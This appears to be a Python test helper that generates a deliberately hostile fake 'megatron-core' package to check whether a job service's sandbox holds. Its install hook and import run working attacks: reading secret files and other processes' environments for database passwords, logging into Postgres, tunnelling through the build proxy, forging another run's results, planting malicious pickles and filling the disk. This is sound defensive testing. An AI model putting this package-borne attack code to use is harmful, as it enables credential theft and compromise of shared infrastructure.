"""A small real package that attacks the service: its install hook (setup.py, run by pip in the build
job) and its fake "Megatron-Core" (megatron/core/__init__.py, imported by every phase of a run; a build
imports nothing it installed) try each "never" of docs/security.md and write down what happened.

Everything an attacker could know is baked in (paths, the service's layout, the database's host and
role); what it must not get is the secrets, the other run's folder and the service's files. Each
attack is recorded as {"ok": bool, "detail": str} in `hostile-<stage>.json` inside the folder the
job may write (the build folder, or the phase's attempt folder).
"""

from __future__ import annotations

import json
import textwrap
from pathlib import Path
from typing import Any

ATTACKS = textwrap.dedent('''
    """Attacks run as whatever user the job runs as; stdlib only (plus psycopg from a known path)."""
    import base64, json, os, sys
    from pathlib import Path

    CONFIG = json.loads(%(config)r)


    def _own_folder(stage):
        if stage == "install":
            return Path(CONFIG["build_folder"])
        arg = sys.argv[-1] if sys.argv else ""
        if arg.endswith("submitit") or arg.endswith("/job"):
            return Path(arg).parent  # a submitit task: python -m submitit.core._submit <folder>
        return Path(CONFIG["build_folder"])  # the build's import check (python -c ...) runs in place


    def _read_secret_file():
        return Path(CONFIG["secret_file"]).read_text()[:200]


    def _read_munge_key():
        return "%%d bytes" %% len(Path(CONFIG["munge_key"]).read_bytes())


    def _read_scheduler_environ():
        denied = 0
        for entry in os.listdir("/proc"):
            if not entry.isdigit() or int(entry) == os.getpid():
                continue
            try:
                data = Path("/proc", entry, "environ").read_bytes()
            except PermissionError:
                denied += 1
                continue
            except OSError:
                continue
            for item in data.split(b"\\0"):
                if item.startswith(b"PARITY_DATABASE_URL="):
                    return item.split(b"=", 1)[1].decode()
        raise PermissionError("no readable environ holds PARITY_DATABASE_URL (%%d refused)" %% denied)


    def _found_password():
        for fn in (_read_scheduler_environ, _read_secret_file):
            try:
                text = fn()
            except Exception:
                continue
            if CONFIG["db_user"] + ":" in text:
                return text.split(CONFIG["db_user"] + ":", 1)[1].split("@", 1)[0]
        return ""


    def _connect_postgres():
        sys.path.insert(0, CONFIG["site_packages"])
        import psycopg
        password = _found_password()
        with psycopg.connect(host=CONFIG["db_host"], port=CONFIG["db_port"], user=CONFIG["db_user"],
                             password=password, dbname="postgres", connect_timeout=5) as conn:
            return "connected as %%s" %% conn.execute("select current_user").fetchone()[0]


    def _proxy_to_postgres():
        # a build's one way out (its index gateway, named by HTTPS_PROXY), asked for the node's database
        import socket
        proxy = os.environ.get("HTTPS_PROXY", "")
        if not proxy:
            raise LookupError("no proxy in this job's environment")
        host, _, port = proxy.rsplit("/", 1)[-1].rpartition(":")
        with socket.create_connection((host, int(port)), timeout=10) as sock:
            sock.sendall(("CONNECT %%s:%%d HTTP/1.1\\r\\n\\r\\n" %% (CONFIG["db_host"], CONFIG["db_port"])).encode())
            answer = sock.recv(200).split(b"\\r\\n", 1)[0].decode()
        if " 200 " not in answer:
            raise PermissionError(answer)
        return answer


    def _overwrite_other_result():
        with open(CONFIG["victim_doc"], "w") as fh:
            fh.write(json.dumps({"status": "ok", "forged": True}))
        return "overwrote " + CONFIG["victim_doc"]


    def _plant_in_other_run():
        target = Path(CONFIG["victim_doc"]).parent / "submitit" / "1_0_result.pkl"
        target.parent.mkdir(exist_ok=True)
        target.write_bytes(base64.b64decode(CONFIG["pickle_b64"]))
        return "planted " + str(target)


    def _write_service_files():
        with open(CONFIG["service_file"], "a") as fh:
            fh.write("# changed by a build\\n")
        Path(CONFIG["run_root"], "planted-by-a-job").write_text("x")
        return "wrote the service's files"


    def _result_pickle(own):
        # where submitit keeps a job's return value: loading it would run a command in the scheduler
        for sub in ("submitit", "job"):
            if (own / sub).is_dir():
                for name in ("%%s_result.pkl" %% CONFIG["job_hint"], "0_0_result.pkl"):
                    (own / sub / name).write_bytes(base64.b64decode(CONFIG["pickle_b64"]))
        return "left result pickles in " + str(own)


    def _link_result_to_secret(own):
        for name in ("result.rank0.json", "rank0.log"):
            link = own / name
            if link.exists() or link.is_symlink():
                link.unlink()
            link.symlink_to(CONFIG["secret_file"])
        return "linked result.rank0.json and rank0.log to " + CONFIG["secret_file"]


    def _fill_disk(own):
        quota = CONFIG["quota_bytes"]
        out = []
        try:
            with open(own / "one-big-file", "wb") as fh:
                for _ in range(quota // (1 << 20) + 2):
                    fh.write(b"x" * (1 << 20))
            out.append("one file past the quota: written")
        except OSError as exc:
            out.append("one file past the quota: %%s" %% exc)
        # the report so far, before the folder passes its quota: the service may stop the job any moment now
        (own / "hostile-install.json").write_text(json.dumps(
            {"stage": "install", "uid": os.getuid(), "own": str(own), "fill_disk": {"ok": True, "detail": out[0]}}))
        written = 0
        for i in range(64):  # many files each under the per-file limit: only the folder check sees them
            with open(own / ("fill-%%02d" %% i), "wb") as fh:
                fh.write(b"y" * (quota // 8))
            written += quota // 8
            if written > 2 * quota:
                break
        out.append("%%d bytes in small files" %% written)
        return "; ".join(out)


    def run(stage):
        own = _own_folder(stage)
        report = {"stage": stage, "uid": os.getuid(), "own": str(own)}
        attacks = [
            ("read_secret_file", _read_secret_file), ("read_munge_key", _read_munge_key),
            ("read_scheduler_environ", _read_scheduler_environ), ("connect_postgres", _connect_postgres),
            ("proxy_to_postgres", _proxy_to_postgres),
            ("overwrite_other_result", _overwrite_other_result), ("plant_in_other_run", _plant_in_other_run),
            ("write_service_files", _write_service_files), ("result_pickle", lambda: _result_pickle(own)),
        ]
        if stage == "phase":
            attacks.append(("link_result_to_secret", lambda: _link_result_to_secret(own)))
        if CONFIG["fill_disk"] and stage == "install":
            attacks = [("fill_disk", lambda: _fill_disk(own))]
        for name, fn in attacks:
            try:
                report[name] = {"ok": True, "detail": str(fn())[:300]}
            except BaseException as exc:
                report[name] = {"ok": False, "detail": ("%%s: %%s" %% (type(exc).__name__, exc))[:300]}
        (own / ("hostile-%%s.json" %% stage)).write_text(json.dumps(report, indent=1))
        if stage == "phase":
            os._exit(0)  # leave the links in place: no harness document replaces them
        if CONFIG["fill_disk"]:
            import time
            time.sleep(CONFIG["linger_s"])  # still running when the scheduler looks at the folder
''')

SETUP = textwrap.dedent('''
    import os, sys
    sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
    from setuptools import setup

    if "egg_info" not in sys.argv and "dist_info" not in sys.argv:
        import parity_hostile
        parity_hostile.run("install")  # the install hook: runs when pip builds the wheel
    setup(name="megatron-core", version="0.0.0+hostile", py_modules=["parity_hostile"],
          packages=["megatron", "megatron.core"])
''')

FAKE_MCORE = textwrap.dedent('''
    """A fake Megatron-Core: whoever imports it (every rank of a phase) runs the attacks."""
    import sys
    import parity_hostile

    __version__ = "0.0.0+hostile"
    parity_hostile.run("phase" if sys.argv and sys.argv[-1].endswith("submitit") else "import")
''')


def make_hostile_package(dest: Path, config: dict[str, Any]) -> Path:
    """Write the package's source tree under dest (a local path an admin may build); returns dest."""
    (dest / "megatron" / "core").mkdir(parents=True)
    (dest / "parity_hostile.py").write_text(ATTACKS % {"config": json.dumps(config)})
    (dest / "setup.py").write_text(SETUP)
    (dest / "megatron" / "__init__.py").write_text("")
    (dest / "megatron" / "core" / "__init__.py").write_text(FAKE_MCORE)
    for path in [dest, *dest.rglob("*")]:
        path.chmod(0o755 if path.is_dir() else 0o644)
    return dest


def read_report(folder: Path, stage: str) -> dict[str, Any]:
    """What the attacks of one stage recorded (the job wrote it; the test reads it as root)."""
    path = folder / f"hostile-{stage}.json"
    assert path.is_file(), f"the hostile {stage} stage left no report in {folder}: it did not run"
    report: dict[str, Any] = json.loads(path.read_text())
    return report


def build_to_end(settings: Any, env_id: int, executor: str, timeout_s: float, what: str) -> Any:
    """Launch a requested build and reconcile until it is ready or failed; the row, detached. Fails the test
    on timeout."""
    import time

    import pytest

    from models import Environment
    from service.core.db import session_scope
    from service.environments.build_steps import launch_builds, reconcile_builds

    with session_scope() as session:
        assert launch_builds(session, settings=settings, executor=executor) == 1
    deadline = time.monotonic() + timeout_s
    while time.monotonic() < deadline:
        with session_scope() as session:
            reconcile_builds(session, settings)
            built = session.get(Environment, env_id)
            assert built is not None
            if built.state in ("ready", "failed"):
                session.flush()  # before expunge: an expunged row's changes are never written
                session.expunge(built)
                return built
        time.sleep(1)
    pytest.fail(f"{what} did not finish in {timeout_s:.0f}s")
